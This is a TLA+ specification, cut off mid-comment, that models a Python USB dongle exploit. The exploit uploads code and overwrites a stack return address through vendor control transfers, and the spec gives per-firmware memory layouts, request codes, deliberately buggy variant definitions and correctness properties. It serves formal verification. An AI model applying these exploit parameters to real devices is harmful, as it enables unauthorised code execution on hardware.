---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of oem_flasher.py: the payload encoder (MemLayout), the exploit   *)
(* writer (Dongle), the reappearance poller and the __main__ sequence.     *)
(* Addresses are written in decimal; the hexadecimal source value is given *)
(* in the comment next to each.                                            *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    pc,          \* position of the running script / harness
    argv_files,  \* the files named by sys.argv[1:], in order (see contents)
    layouts,     \* the module-level table MEM_LAYOUTS
    dev,         \* result of find_usb_dev()
    dongle,      \* the Dongle object (layout it resolved)
    devlog,      \* operations invoked on dev, in order
    writes,      \* calls of Dongle.write, in order: caller, len(data), addr,
                 \* idata and the exception raised
    xfers,       \* calls of dev.ctrl_transfer, in order
    retry,       \* iterations of the poller loop entered so far
    sleeps,      \* time.sleep(1) calls made by the poller
    queries,     \* usb.core.find(bus=, port_numbers=) calls made by the poller
    nothing,     \* iterations that ended in "Nothing there yet"
    notresp,     \* iterations that ended in "Not responding yet"
    configured,  \* iterations in which dev.set_configuration() returned
    new_dev,     \* value returned by find_new_device_on_same_usb_port
    error,       \* the exception that ended the run, if any
    enc_in,      \* encoder harness: layout key and keyword arguments
    enc_out,     \* encoder harness: result of construct_payload
    w_in         \* writer harness: arguments of Dongle.write

vars == <<pc, argv_files, layouts, dev, dongle, devlog, writes, xfers, retry,
          sleeps, queries, nothing, notresp, configured, new_dev, error,
          enc_in, enc_out, w_in>>

\* ------------------------------------------------------------------------
\* Bounds of the model
MaxFiles == 2
MaxDataLen == 2
DataBytes == {7, 171}
UnsupportedBcd == 256

\* ------------------------------------------------------------------------
\* Results of operations that may raise
Ok(v) == [err |-> "none", arg |-> "", val |-> v]
Raise(e, a) == [err |-> e, arg |-> a, val |-> <<>>]

Zeros(n) == [i \in 1..n |-> 0]

\* int.to_bytes(1, 'little')
u8(n) == IF n \in 0..255 THEN Ok(<<n>>) ELSE Raise("OverflowError", "")

\* the two bytes high byte first
u16_big_endian(n) == IF n \in 0..65535 THEN Ok(<<n \div 256, n % 256>>)
                     ELSE Raise("OverflowError", "")

\* int.to_bytes(2, 'little')
u16(n) == IF n \in 0..65535 THEN Ok(<<n % 256, n \div 256>>)
          ELSE Raise("OverflowError", "")

\* bytes(b) of a bytes object
bytes_of(b) == Ok(b)

_conv == << <<"usb_state", "u8">>,
            <<"req_state", "u8">>,
            <<"wptr", "u16">>,
            <<"addrspace", "u8">>,
            <<"wlen", "u16">>,
            <<"data", "bytes">> >>

conv_fn(fn, v) == IF fn = "u8" THEN u8(v)
                  ELSE IF fn = "u16" THEN u16(v)
                  ELSE bytes_of(v)

\* padding computed from the buffer start alone, not from the bytes laid so far
padding_len_absolute(self, addr, payload) == addr - self.transfer_buf_start

\* addr - self.transfer_buf_start - len(payload)
padding_len(self, addr, payload) == addr - self.transfer_buf_start - Len(payload)

\* the loop passing over a field that has no value (kwargs.get in place of
\* kwargs[name])
RECURSIVE payload_loop_skipping(_, _, _, _)
payload_loop_skipping(self, kwargs, i, payload) ==
    IF i > Len(_conv) THEN Ok(payload)
    ELSE LET name == _conv[i][1]
             addr == self[name]
             n == addr - self.transfer_buf_start - Len(payload)
         IN IF n < 0 THEN Raise("ValueError", name)
            ELSE IF name \notin DOMAIN kwargs
            THEN payload_loop_skipping(self, kwargs, i + 1, payload \o Zeros(n))
            ELSE LET value == conv_fn(_conv[i][2], kwargs[name])
                 IN IF value.err # "none" THEN Raise(value.err, name)
                    ELSE payload_loop_skipping(self, kwargs, i + 1,
                                               payload \o Zeros(n) \o value.val)

RECURSIVE payload_loop(_, _, _, _)
payload_loop(self, kwargs, i, payload) ==
    IF i > Len(_conv) THEN Ok(payload)
    ELSE LET name == _conv[i][1]
             addr == self[name]
             n == padding_len(self, addr, payload)
         IN IF n < 0 THEN Raise("ValueError", name)
            ELSE IF name \notin DOMAIN kwargs THEN Raise("KeyError", name)
            ELSE LET value == conv_fn(_conv[i][2], kwargs[name])
                 IN IF value.err # "none" THEN Raise(value.err, name)
                    ELSE payload_loop(self, kwargs, i + 1,
                                      payload \o Zeros(n) \o value.val)

construct_payload(self, kwargs) == payload_loop(self, kwargs, 1, <<>>)

\* ------------------------------------------------------------------------
\* FREE_SPACE = range(0x03a0, 0x1e90)
FREE_SPACE_start == 928
FREE_SPACE_stop == 7824

MemLayout(tbs, us, rs, wp, as, wl, da, sr) ==
    [transfer_buf_start |-> tbs, usb_state |-> us, req_state |-> rs,
     wptr |-> wp, addrspace |-> as, wlen |-> wl, data |-> da, stack_ret |-> sr]

\* the table with req_state and wptr of 0x8391 exchanged
MEM_LAYOUTS_unordered ==
    (33681 :> MemLayout(527, 861, 881, 868, 883, 885, 911, 194)) @@
    (2081  :> MemLayout(514, 887, 894, 907, 909, 911, 930, 194)) @@
    (9495  :> MemLayout(514, 887, 894, 907, 909, 911, 930, 194))

\* the table with addrspace of 0x0821 on the second byte of wptr
MEM_LAYOUTS_overlapping ==
    (33681 :> MemLayout(527, 861, 868, 881, 883, 885, 911, 194)) @@
    (2081  :> MemLayout(514, 887, 894, 907, 908, 911, 930, 194)) @@
    (9495  :> MemLayout(514, 887, 894, 907, 909, 911, 930, 194))

\* the table with the data field of 0x2517 one byte further
MEM_LAYOUTS_shifted ==
    (33681 :> MemLayout(527, 861, 868, 881, 883, 885, 911, 194)) @@
    (2081  :> MemLayout(514, 887, 894, 907, 909, 911, 930, 194)) @@
    (9495  :> MemLayout(514, 887, 894, 907, 909, 911, 931, 194))

\* keys 0x8391, 0x0821, 0x2517
MEM_LAYOUTS ==
    (33681 :> MemLayout(527, 861, 868, 881, 883, 885, 911, 194)) @@
    (2081  :> MemLayout(514, 887, 894, 907, 909, 911, 930, 194)) @@
    (9495  :> MemLayout(514, 887, 894, 907, 909, 911, 930, 194))

NoLayout == MemLayout(0, 0, 0, 0, 0, 0, 0, 0)
NoDevice == [found |-> FALSE, bcdDevice |-> 0]
NoDongle == [constructed |-> FALSE, layout |-> NoLayout]
NoError == [type |-> "none", msg |-> "", arg |-> <<>>]
Exception(t, m, a) == [type |-> t, msg |-> m, arg |-> a]

\* str(n) of a nonnegative int, as its decimal digits
RECURSIVE Decimal(_)
Decimal(n) == IF n < 10 THEN <<n>> ELSE Append(Decimal(n \div 10), n % 10)

\* A bytes object is described by its leading bytes and the number of zero
\* bytes that follow them; contents gives the bytes themselves
\* (open(p, 'rb').read() for a file).
Bytes(fill, zeros) == [fill |-> fill, zeros |-> zeros]
contents(b) == b.fill \o Zeros(b.zeros)

\* the files joined last to first
RECURSIVE join_reversed(_)
join_reversed(fs) ==
    IF fs = <<>> THEN <<>> ELSE join_reversed(Tail(fs)) \o contents(Head(fs))

\* b''.join(open(p, 'rb').read() for p in paths)
RECURSIVE join(_)
join(fs) == IF fs = <<>> THEN <<>> ELSE contents(Head(fs)) \o join(Tail(fs))

\* int(idata)
int_of(b) == IF b THEN 1 ELSE 0

\* ------------------------------------------------------------------------
\* Dongle.write

\* the write pointer passed without the 32-byte compensation
write_kwargs_uncompensated(data, addr, idata) ==
    [usb_state |-> 2,
     req_state |-> 2,
     wptr      |-> addr,
     addrspace |-> int_of(idata),
     wlen      |-> Len(data) + 32,
     data      |-> data]

\* the write pointer reduced modulo 2^16 before it is serialized
write_kwargs_wrapped(data, addr, idata) ==
    [usb_state |-> 2,
     req_state |-> 2,
     wptr      |-> (addr - 32) % 65536,
     addrspace |-> int_of(idata),
     wlen      |-> Len(data) + 32,
     data      |-> data]

\* the keyword arguments Dongle.write hands to construct_payload
write_kwargs(data, addr, idata) ==
    [usb_state |-> 2,
     req_state |-> 2,
     wptr      |-> addr - 32,
     addrspace |-> int_of(idata),
     wlen      |-> Len(data) + 32,
     data      |-> data]

\* the arguments of self.dev.ctrl_transfer (0x40, 0xd2, 0, 0, payload)
ctrl_transfer_args(payload, idata) ==
    [bmRequestType |-> 64,
     bRequest |-> 210,
     wValue |-> 0,
     wIndex |-> 0,
     data_or_wLength |-> payload]

\* One call of Dongle.write by `caller`; usb_ok is whether ctrl_transfer
\* returns (TRUE) or raises USBError (FALSE).  Gives the logs after the call
\* and the exception the call raised.
Dongle_write(self, wr, xf, caller, data, addr, idata, usb_ok) ==
    LET payload == construct_payload(self.layout, write_kwargs(data, addr, idata))
        call == [caller |-> caller, len |-> Len(data), addr |-> addr, idata |-> idata]
    IN IF payload.err # "none"
       THEN [writes |-> Append(wr, [call |-> call, err |-> payload.err]),
             xfers |-> xf,
             err |-> payload.err]
       ELSE LET e == IF usb_ok THEN "none" ELSE "USBError"
            IN [writes |-> Append(wr, [call |-> call, err |-> e]),
                xfers |-> Append(xf, [caller |-> caller,
                                      args |-> ctrl_transfer_args(payload.val, idata),
                                      raised |-> ~usb_ok]),
                err |-> e]
\* ------------------------------------------------------------------------
\* find_new_device_on_same_usb_port

\* a loop of one iteration more
PollAttemptsOneMore == 10 + 1

\* for retry in range(10)
PollAttempts == 10

\* What one iteration of the loop does and how it ends.
PollResult(returned, ret, nothing_, notresp_, configured_, err) ==
    [returned |-> returned, ret |-> ret, nothing |-> nothing_,
     notresp |-> notresp_, configured |-> configured_, err |-> err]

\* except usb.core.USBError as e
except_USBError(e) == e = "USBError"

\* the loop body giving up at the first device that does not respond
poll_body_give_up(found, conf, descr) ==
    IF ~found THEN PollResult(FALSE, "None", 1, 0, 0, "none")
    ELSE IF conf # "none"
    THEN IF except_USBError(conf)
         THEN PollResult(TRUE, "None", 0, 1, 0, "none")
         ELSE PollResult(FALSE, "None", 0, 0, 0, conf)
    ELSE IF descr # "none"
    THEN IF except_USBError(descr)
         THEN PollResult(TRUE, "None", 0, 1, 1, "none")
         ELSE PollResult(FALSE, "None", 0, 0, 1, descr)
    ELSE PollResult(TRUE, "Device", 0, 0, 1, "none")

\* The body of one loop iteration after the sleep and the query.
\* found: usb.core.find gave a device.  conf: the exception raised by
\* dev.set_configuration() ("none" when it returns).  descr: the exception
\* raised by reading dev.manufacturer and dev.product for the print that
\* follows it inside the same try ("none" when both are read).  USBError from
\* either is caught and the iteration ends in "Not responding yet"; any other
\* exception leaves the function.  returned: the function returns in this
\* iteration; err: the exception that leaves it.
poll_body(found, conf, descr) ==
    IF ~found THEN PollResult(FALSE, "None", 1, 0, 0, "none")
    ELSE IF conf # "none"
    THEN IF except_USBError(conf)
         THEN PollResult(FALSE, "None", 0, 1, 0, "none")
         ELSE PollResult(FALSE, "None", 0, 0, 0, conf)
    ELSE IF descr # "none"
    THEN IF except_USBError(descr)
         THEN PollResult(FALSE, "None", 0, 1, 1, "none")
         ELSE PollResult(FALSE, "None", 0, 0, 1, descr)
    ELSE PollResult(TRUE, "Device", 0, 0, 1, "none")

\* ------------------------------------------------------------------------
\* __main__

XMAP_BASE == 32768
MEMCTR == 199 + 28672
MEMCTR_ENABLE_XMAP == 8

\* the last two exploit steps in the opposite order
main_next_swapped(at) ==
    IF at = "start" THEN "find_usb_dev"
    ELSE IF at = "find_usb_dev" THEN "Dongle"
    ELSE IF at = "Dongle" THEN "upload_file_contents"
    ELSE IF at = "upload_file_contents" THEN "overwrite_return_address"
    ELSE IF at = "overwrite_return_address" THEN "enable_xmap"
    ELSE IF at = "enable_xmap" THEN "find_new_device"
    ELSE IF at = "find_new_device" THEN "assert_new_dev"
    ELSE "exit"

\* the port watched before the return address is overwritten
main_next_poll_early(at) ==
    IF at = "start" THEN "find_usb_dev"
    ELSE IF at = "find_usb_dev" THEN "Dongle"
    ELSE IF at = "Dongle" THEN "upload_file_contents"
    ELSE IF at = "upload_file_contents" THEN "enable_xmap"
    ELSE IF at = "enable_xmap" THEN "find_new_device"
    ELSE IF at = "find_new_device" THEN "assert_new_dev"
    ELSE IF at = "assert_new_dev" THEN "overwrite_return_address"
    ELSE "exit"

\* the statement that follows each statement of __main__
main_next(at) ==
    IF at = "start" THEN "find_usb_dev"
    ELSE IF at = "find_usb_dev" THEN "Dongle"
    ELSE IF at = "Dongle" THEN "upload_file_contents"
    ELSE IF at = "upload_file_contents" THEN "enable_xmap"
    ELSE IF at = "enable_xmap" THEN "overwrite_return_address"
    ELSE IF at = "overwrite_return_address" THEN "find_new_device"
    ELSE IF at = "find_new_device" THEN "assert_new_dev"
    ELSE "exit"

\* an exception that is caught and ignored
propagate_swallowed(err, at) == main_next(at)

\* no statement of __main__ is inside a try: an exception ends the run
propagate(err, at) == IF err = "none" THEN main_next(at) ELSE "aborted"

PollVars == <<retry, sleeps, queries, nothing, notresp, configured, new_dev>>
HarnessVars == <<enc_in, enc_out, w_in>>

\* assert paths
Start ==
    /\ pc = "start"
    /\ IF argv_files = <<>>
       THEN /\ pc' = "aborted"
            /\ error' = Exception("AssertionError", "Missing arguments", <<>>)
       ELSE /\ pc' = main_next("start")
            /\ error' = error
    /\ UNCHANGED <<argv_files, layouts, dev, dongle, devlog, writes, xfers>>
    /\ UNCHANGED PollVars
    /\ UNCHANGED HarnessVars

\* What reading dev.manufacturer and dev.product can do: return the strings
\* ("none"), or raise usb.core.USBError or ValueError (a device without
\* langid).
DescriptorReads == {"none", "USBError", "ValueError"}

\* What dev.set_configuration() can do: return ("none") or raise
\* usb.core.USBError.
ConfigurationResults == {"none", "USBError"}

\* dev = find_usb_dev(): the assert on the device found, then the print that
\* reads its descriptor strings
FindUsbDev ==
    /\ pc = "find_usb_dev"
    /\ \E plugged \in BOOLEAN, bcd \in DOMAIN layouts \cup {UnsupportedBcd},
          descr \in DescriptorReads :
         IF ~plugged
         THEN /\ pc' = "aborted"
              /\ error' = Exception("AssertionError",
                                    "Failed to find matching USB device", <<>>)
              /\ dev' = dev
         ELSE IF descr # "none"
         THEN /\ pc' = propagate(descr, "find_usb_dev")
              /\ error' = Exception(descr, "", <<>>)
              /\ dev' = dev
         ELSE /\ pc' = main_next("find_usb_dev")
              /\ error' = error
              /\ dev' = [found |-> TRUE, bcdDevice |-> bcd]
    /\ UNCHANGED <<argv_files, layouts, dongle, devlog, writes, xfers>>
    /\ UNCHANGED PollVars
    /\ UNCHANGED HarnessVars

\* an unknown bcdDevice served with the layout of 0x8391
get_layout_for_dev_fallback(table, d) ==
    IF d.bcdDevice \in DOMAIN table
    THEN [err |-> NoError, layout |-> table[d.bcdDevice]]
    ELSE [err |-> NoError, layout |-> table[33681]]

\* get_layout_for_dev(dev)
get_layout_for_dev(table, d) ==
    IF d.bcdDevice \in DOMAIN table
    THEN [err |-> NoError, layout |-> table[d.bcdDevice]]
    ELSE [err |-> Exception("AssertionError", "is not yet supported",
                            Decimal(d.bcdDevice)),
          layout |-> NoLayout]

\* Dongle.__init__: the device operations it makes once the layout is known,
\* and the exception it raises
Dongle_init_ops(reset_ok, conf_ok) ==
    IF ~reset_ok
    THEN [log |-> << [op |-> "reset", raised |-> TRUE] >>, err |-> "USBError"]
    ELSE IF ~conf_ok
    THEN [log |-> << [op |-> "reset", raised |-> FALSE],
                     [op |-> "set_configuration", raised |-> TRUE] >>,
          err |-> "USBError"]
    ELSE [log |-> << [op |-> "reset", raised |-> FALSE],
                     [op |-> "set_configuration", raised |-> FALSE] >>,
          err |-> "none"]

\* dongle = Dongle(dev)
DongleInit ==
    /\ pc = "Dongle"
    /\ LET l == get_layout_for_dev(layouts, dev)
       IN IF l.err.type # "none"
          THEN /\ pc' = "aborted"
               /\ error' = l.err
               /\ UNCHANGED <<dongle, devlog>>
          ELSE \E reset_ok \in BOOLEAN, conf_ok \in BOOLEAN :
                 LET r == Dongle_init_ops(reset_ok, conf_ok)
                 IN /\ devlog' = devlog \o r.log
                    /\ pc' = propagate(r.err, "Dongle")
                    /\ error' = IF r.err = "none" THEN error
                                ELSE Exception(r.err, "", <<>>)
                    /\ dongle' = IF r.err = "none"
                                 THEN [constructed |-> TRUE, layout |-> l.layout]
                                 ELSE dongle
    /\ UNCHANGED <<argv_files, layouts, dev, writes, xfers>>
    /\ UNCHANGED PollVars
    /\ UNCHANGED HarnessVars

\* the effect of one Dongle.write made by statement `at` of __main__
MainWrite(at, data, addr, idata, usb_ok) ==
    LET r == Dongle_write(dongle, writes, xfers, at, data, addr, idata, usb_ok)
    IN /\ writes' = r.writes
       /\ xfers' = r.xfers
       /\ devlog' = IF Len(r.xfers) > Len(xfers)
                    THEN Append(devlog, [op |-> "ctrl_transfer", raised |-> ~usb_ok])
                    ELSE devlog
       /\ pc' = propagate(r.err, at)
       /\ error' = IF r.err = "none" THEN error ELSE Exception(r.err, "", <<>>)

\* dongle.upload_file_contents(paths, offset)
UploadFileContents ==
    /\ pc = "upload_file_contents"
    /\ \E readable \in BOOLEAN, usb_ok \in BOOLEAN :
         IF ~readable
         THEN /\ pc' = "aborted"
              /\ error' = Exception("OSError", "", <<>>)
              /\ UNCHANGED <<writes, xfers, devlog>>
         ELSE MainWrite("upload_file_contents", join(argv_files),
                        FREE_SPACE_start, FALSE, usb_ok)
    /\ UNCHANGED <<argv_files, layouts, dev, dongle>>
    /\ UNCHANGED PollVars
    /\ UNCHANGED HarnessVars

\* dongle.enable_xmap()
EnableXmap ==
    /\ pc = "enable_xmap"
    /\ \E usb_ok \in BOOLEAN :
         MainWrite("enable_xmap", u8(MEMCTR_ENABLE_XMAP).val, MEMCTR, FALSE, usb_ok)
    /\ UNCHANGED <<argv_files, layouts, dev, dongle>>
    /\ UNCHANGED PollVars
    /\ UNCHANGED HarnessVars

\* dongle.overwrite_return_address(offset + XMAP_BASE)
OverwriteReturnAddress ==
    /\ pc = "overwrite_return_address"
    /\ LET addr == u16(FREE_SPACE_start + XMAP_BASE)
       IN IF addr.err # "none"
          THEN /\ pc' = "aborted"
               /\ error' = Exception(addr.err, "", <<>>)
               /\ UNCHANGED <<writes, xfers, devlog>>
          ELSE \E usb_ok \in BOOLEAN :
                 MainWrite("overwrite_return_address", addr.val,
                           dongle.layout.stack_ret, TRUE, usb_ok)
    /\ UNCHANGED <<argv_files, layouts, dev, dongle>>
    /\ UNCHANGED PollVars
    /\ UNCHANGED HarnessVars

\* one iteration of the loop of find_new_device_on_same_usb_port
PollIteration ==
    /\ pc = "find_new_device"
    /\ retry < PollAttempts
    /\ \E found \in BOOLEAN, conf \in ConfigurationResults,
          descr \in DescriptorReads :
         LET r == poll_body(found, conf, descr)
         IN /\ retry' = retry + 1
            /\ sleeps' = sleeps + 1
            /\ queries' = queries + 1
            /\ nothing' = nothing + r.nothing
            /\ notresp' = notresp + r.notresp
            /\ configured' = configured + r.configured
            /\ new_dev' = r.ret
            /\ error' = IF r.err = "none" THEN error
                        ELSE Exception(r.err, "", <<>>)
            /\ pc' = IF r.err # "none" THEN propagate(r.err, "find_new_device")
                     ELSE IF r.returned \/ retry' >= PollAttempts
                     THEN main_next("find_new_device")
                     ELSE pc
    /\ UNCHANGED <<argv_files, layouts, dev, dongle, devlog, writes, xfers>>
    /\ UNCHANGED HarnessVars

\* assert new_dev
AssertNewDev ==
    /\ pc = "assert_new_dev"
    /\ IF new_dev = "None"
       THEN /\ pc' = "aborted"
            /\ error' = Exception("AssertionError", "Device fell off USB port", <<>>)
       ELSE /\ pc' = main_next("assert_new_dev")
            /\ error' = error
    /\ UNCHANGED <<argv_files, layouts, dev, dongle, devlog, writes, xfers>>
    /\ UNCHANGED PollVars
    /\ UNCHANGED HarnessVars

\* ------------------------------------------------------------------------
\* Inputs

SeqsUpTo(S, n) == UNION {[1..k -> S] : k \in 0..n}

\* the smallest len(data) for which len(data) + 32 does not fit 16 bits
OversizeLen == 65535 - 32 + 1
BigFile == Bytes(<<>>, OversizeLen)
SmallFiles == {Bytes(<<>>, 0), Bytes(<<7>>, 0), Bytes(<<171, 7>>, 0)}
DataStrings == SeqsUpTo(DataBytes, MaxDataLen)

NoEncIn == [key |-> 0, kwargs |-> <<>>]
NoEncOut == Raise("not called", "")
NoWriteIn == [data |-> Bytes(<<>>, 0), addr |-> 0, idata |-> FALSE]

Idle ==
    /\ dev = NoDevice
    /\ dongle = NoDongle
    /\ devlog = <<>>
    /\ writes = <<>>
    /\ xfers = <<>>
    /\ retry = 0
    /\ sleeps = 0
    /\ queries = 0
    /\ nothing = 0
    /\ notresp = 0
    /\ configured = 0
    /\ new_dev = "None"
    /\ error = NoError

Init ==
    /\ pc = "start"
    /\ argv_files \in SeqsUpTo(SmallFiles \cup {BigFile}, MaxFiles)
    /\ layouts = MEM_LAYOUTS
    /\ Idle
    /\ enc_in = NoEncIn
    /\ enc_out = NoEncOut
    /\ w_in = NoWriteIn

Next ==
    \/ Start
    \/ FindUsbDev
    \/ DongleInit
    \/ UploadFileContents
    \/ EnableXmap
    \/ OverwriteReturnAddress
    \/ PollIteration
    \/ AssertNewDev

Spec == Init /\ [][Next]_vars
\* every step of the script eventually runs: it is one sequential thread
FairSpec == Spec /\ WF_vars(Next)

\* ------------------------------------------------------------------------
\* construct_payload applied to a range of layouts and keyword arguments

U8Values == {0, 2, 255}
BadU8Values == {256}
U16Values == {0, 300, 65535}
BadU16Values == {65536}

KwargSets ==
    [usb_state : U8Values,
     req_state : {2, 255},
     wptr      : U16Values \cup BadU16Values,
     addrspace : {0, 1} \cup BadU8Values,
     wlen      : U16Values \cup BadU16Values,
     data      : DataStrings]

\* keyword arguments with some of the fields left out
Without(kwargs, names) == [n \in DOMAIN kwargs \ names |-> kwargs[n]]

PartialKwargSets ==
    {Without(kw, names) :
         kw \in [usb_state : {2},
                 req_state : {2, 256},
                 wptr      : {300, 65536},
                 addrspace : {1},
                 wlen      : {300},
                 data      : {<<7>>}],
         names \in SUBSET {"usb_state", "req_state", "wptr", "addrspace",
                           "wlen", "data"} \ {{}}}

EncodeInit ==
    /\ pc = "encode"
    /\ argv_files = <<>>
    /\ layouts = MEM_LAYOUTS
    /\ Idle
    /\ enc_in \in [key : DOMAIN MEM_LAYOUTS, kwargs : KwargSets \cup PartialKwargSets]
    /\ enc_out = NoEncOut
    /\ w_in = NoWriteIn

\* payload = layout.construct_payload(**kwargs)
Encode ==
    /\ pc = "encode"
    /\ enc_out' = construct_payload(layouts[enc_in.key], enc_in.kwargs)
    /\ pc' = "encoded"
    /\ UNCHANGED <<argv_files, layouts, dev, dongle, devlog, writes, xfers, error,
                   enc_in, w_in>>
    /\ UNCHANGED PollVars

EncodeNext == Encode

SpecEncode == EncodeInit /\ [][EncodeNext]_vars

\* ------------------------------------------------------------------------
\* Dongle.write applied to a range of arguments

WriteAddrs == {0, 31, 32, 194, 928, 28871, 65567, 65568}

WriteInit ==
    /\ pc = "write"
    /\ argv_files = <<>>
    /\ layouts = MEM_LAYOUTS
    /\ dev \in {[found |-> TRUE, bcdDevice |-> k] : k \in DOMAIN MEM_LAYOUTS}
    /\ dongle = [constructed |-> TRUE, layout |-> MEM_LAYOUTS[dev.bcdDevice]]
    /\ devlog = <<>>
    /\ writes = <<>>
    /\ xfers = <<>>
    /\ retry = 0
    /\ sleeps = 0
    /\ queries = 0
    /\ nothing = 0
    /\ notresp = 0
    /\ configured = 0
    /\ new_dev = "None"
    /\ error = NoError
    /\ enc_in = NoEncIn
    /\ enc_out = NoEncOut
    /\ w_in \in [data : {Bytes(d, 0) : d \in DataStrings} \cup {BigFile},
                addr : WriteAddrs, idata : BOOLEAN]

\* dongle.write(data, addr, idata)
WriteCall ==
    /\ pc = "write"
    /\ \E usb_ok \in BOOLEAN :
         LET r == Dongle_write(dongle, writes, xfers, "write",
                               contents(w_in.data), w_in.addr, w_in.idata, usb_ok)
         IN /\ writes' = r.writes
            /\ xfers' = r.xfers
            /\ devlog' = IF Len(r.xfers) > Len(xfers)
                         THEN Append(devlog, [op |-> "ctrl_transfer", raised |-> ~usb_ok])
                         ELSE devlog
            /\ error' = IF r.err = "none" THEN error ELSE Exception(r.err, "", <<>>)
            /\ pc' = "written"
    /\ UNCHANGED <<argv_files, layouts, dev, dongle, enc_in, enc_out, w_in>>
    /\ UNCHANGED PollVars

WriteNext == WriteCall

SpecWrite == WriteInit /\ [][WriteNext]_vars

\* ------------------------------------------------------------------------
\* The run with input files around the size of FREE_SPACE

\* len(FREE_SPACE)
FREE_SPACE_len == FREE_SPACE_stop - FREE_SPACE_start

\* a one-byte file, and a file that fills FREE_SPACE exactly
UploadFiles == {Bytes(<<7>>, 0), Bytes(<<171>>, FREE_SPACE_len - 1)}

UploadInit ==
    /\ pc = "start"
    /\ argv_files \in SeqsUpTo(UploadFiles, MaxFiles)
    /\ layouts = MEM_LAYOUTS
    /\ Idle
    /\ enc_in = NoEncIn
    /\ enc_out = NoEncOut
    /\ w_in = NoWriteIn

SpecUpload == UploadInit /\ [][Next]_vars

\* ------------------------------------------------------------------------
\* Properties

FieldNames == {"usb_state", "req_state", "wptr", "addrspace", "wlen", "data"}

\* the bytes a field's value is expected to occupy
Expected(name, kwargs) ==
    IF name \in {"usb_state", "req_state", "addrspace"} THEN <<kwargs[name]>>
    ELSE IF name \in {"wptr", "wlen"}
    THEN <<kwargs[name] % 256, kwargs[name] \div 256>>
    ELSE kwargs[name]

\* offset of a field in the transfer
Offset(layout, name) == layout[name] - layout.transfer_buf_start

ValidKwargs(kwargs) ==
    /\ DOMAIN kwargs = FieldNames
    /\ \A n \in {"usb_state", "req_state", "addrspace"} : kwargs[n] \in 0..255
    /\ \A n \in {"wptr", "wlen"} : kwargs[n] \in 0..65535

Covered(layout, kwargs, i) ==
    \E n \in FieldNames :
        /\ i > Offset(layout, n)
        /\ i <= Offset(layout, n) + Len(Expected(n, kwargs))

\* C1: for every supported layout and every valid field-value set,
\* construct_payload returns a payload of length data + len(data) -
\* transfer_buf_start in which each field's serialized bytes start at offset
\* field address - transfer_buf_start and every other byte is zero; for
\* 0x8391 it begins with 334 zero bytes followed by the usb_state byte.
C1_PayloadLayout ==
    (pc = "encoded" /\ ValidKwargs(enc_in.kwargs)) =>
        LET layout == MEM_LAYOUTS[enc_in.key]
            kw == enc_in.kwargs
            p == enc_out.val
        IN /\ enc_out.err = "none"
           /\ Len(p) = layout.data + Len(kw.data) - layout.transfer_buf_start
           /\ \A n \in FieldNames :
                  SubSeq(p, Offset(layout, n) + 1,
                         Offset(layout, n) + Len(Expected(n, kw))) = Expected(n, kw)
           /\ \A i \in 1..Len(p) : ~Covered(layout, kw, i) => p[i] = 0
           /\ enc_in.key = 33681 =>
                  /\ \A i \in 1..334 : p[i] = 0
                  /\ p[335] = kw.usb_state

C1_Witness ==
    /\ pc = "encoded"
    /\ ValidKwargs(enc_in.kwargs)
    /\ enc_in.key = 33681
    /\ enc_in.kwargs.usb_state = 2
    /\ enc_in.kwargs.wlen = 300
    /\ Len(enc_in.kwargs.data) = MaxDataLen
    /\ enc_out.err = "none"
    /\ Len(enc_out.val) = 384 + MaxDataLen
ExploitOrder == <<"upload_file_contents", "enable_xmap", "overwrite_return_address">>

\* C2: the raw writes of a run are a prefix of upload, enable_xmap,
\* overwrite_return_address, and a write is issued only when every write
\* before it completed without error.
C2_WriteOrder ==
    /\ Len(xfers) <= Len(ExploitOrder)
    /\ \A i \in 1..Len(xfers) :
           /\ xfers[i].caller = ExploitOrder[i]
           /\ \A j \in 1..(i - 1) : ~xfers[j].raised

C2_Witness ==
    /\ Len(xfers) = 3
    /\ xfers[3].caller = "overwrite_return_address"
    /\ ~xfers[1].raised
    /\ ~xfers[2].raised

\* C3: when the control transfer of an exploit step raises, the run is
\* aborted with that error: the failed transfer is the last one, no step was
\* issued twice, and the poller never starts.
C3_WriteFailureAborts ==
    \A i \in 1..Len(xfers) :
        xfers[i].raised =>
            /\ i = Len(xfers)
            /\ pc = "aborted"
            /\ error.type = "USBError"
            /\ \A j \in 1..Len(xfers) : xfers[j].caller = xfers[i].caller => j = i
            /\ retry = 0
            /\ sleeps = 0
            /\ queries = 0
            /\ new_dev = "None"

C3_Witness ==
    /\ Len(xfers) = 2
    /\ xfers[2].raised
    /\ pc = "aborted"

\* little-endian decoding of the two bytes at a field's offset
Decode16(p, off) == p[off + 1] + 256 * p[off + 2]

\* C4: the payload of every Dongle.write(data, addr, idata) carries
\* usb_state = 2, req_state = 2, wptr = addr - 32, addrspace = 0 for xdata
\* and 1 for idata, wlen = len(data) + 32, and the data unchanged.
C4_WriteFields ==
    \A i \in 1..Len(xfers) :
        LET p == xfers[i].args.data_or_wLength
            layout == dongle.layout
        IN /\ p[Offset(layout, "usb_state") + 1] = 2
           /\ p[Offset(layout, "req_state") + 1] = 2
           /\ Decode16(p, Offset(layout, "wptr")) = w_in.addr - 32
           /\ p[Offset(layout, "addrspace") + 1] = (IF w_in.idata THEN 1 ELSE 0)
           /\ Decode16(p, Offset(layout, "wlen")) = Len(contents(w_in.data)) + 32
           /\ SubSeq(p, Offset(layout, "data") + 1, Len(p)) = contents(w_in.data)

C4_Witness ==
    /\ pc = "written"
    /\ Len(xfers) = 1
    /\ w_in.idata
    /\ w_in.addr = 194
    /\ Len(w_in.data.fill) = MaxDataLen

\* what every control transfer of a run looks like
FixedTransfers ==
    /\ \A i \in 1..Len(xfers) :
           /\ xfers[i].args.bmRequestType = 64
           /\ xfers[i].args.bRequest = 210
           /\ xfers[i].args.wValue = 0
           /\ xfers[i].args.wIndex = 0
           /\ i <= Len(writes)
           /\ xfers[i].caller = writes[i].call.caller
           /\ Len(xfers[i].args.data_or_wLength) =
                  Offset(dongle.layout, "data") + writes[i].call.len
    /\ Len(xfers) <= 3
    /\ \A i, j \in 1..Len(xfers) : xfers[i].caller = xfers[j].caller => i = j

\* C5: every call of Dongle.write issues exactly one control transfer, with
\* request type 0x40, request 0xD2, value 0 and index 0, after the payload is
\* encoded; a run issues at most three and no step twice.
C5_OneTransferPerCall ==
    /\ Len(xfers) = Len(writes)
    /\ FixedTransfers

\* C6: the poller returns the device in the first iteration in which a
\* device is found and set_configuration succeeds, whichever of the 10
\* iterations that is, and sleeps and queries no more after it: once an
\* iteration has configured a device, that device is the result, every
